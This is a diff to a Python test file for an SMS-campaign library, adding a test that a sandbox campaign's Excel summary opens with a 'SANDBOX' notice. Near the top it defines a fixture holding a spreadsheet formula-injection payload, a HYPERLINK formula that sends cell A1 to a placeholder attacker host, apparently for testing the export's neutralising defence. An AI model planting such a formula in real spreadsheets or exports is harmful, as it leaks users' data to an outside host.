@@ -10,8 +10,12 @@ import openpyxl
 import pandas as pd
 import pytest
 
+from smsc_frames.campaign import send
+from smsc_frames.client import Client
 from smsc_frames.errors import ValidationError
 from smsc_frames.export import neutralise, summary, to_csv, to_excel
+from smsc_frames.plan import prepare
+from smsc_frames.sandbox import Sandbox
 
 INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
@@ -211,3 +215,18 @@ def test_excel_money_with_pandas_missing_values(tmp_path):
     cost = sheet.cell(row=2, column=1)
     assert (cost.value, cost.number_format) == (1.9, "0.00")
     assert sheet.cell(row=3, column=1).value is None
+
+
+def test_a_sandbox_campaigns_summary_says_so_first(tmp_path):
+    # only the reasons of sent rows said "sandbox": the summary sheet read as a real campaign
+    contacts = pd.DataFrame({"phone": ["+7 916 123-45-67"], "text": ["Hi"]})
+    with Sandbox() as sandbox:
+        client = Client("demo", "demo", url=sandbox.url, environ={})
+        results = send(prepare(contacts, phone="phone", text="text"), client, progress=False)
+    assert results.attrs["sandbox"]
+    sheet = openpyxl.load_workbook(to_excel(results, tmp_path / "r.xlsx"))["summary"]
+    assert next(sheet.iter_rows(min_row=2, values_only=True)) == (
+        "SANDBOX", "nothing here reached a real phone or cost real money")  # fmt: skip
+    real = results.copy()
+    real.attrs["sandbox"] = False
+    assert "SANDBOX" not in summary(real)["metric"].tolist()
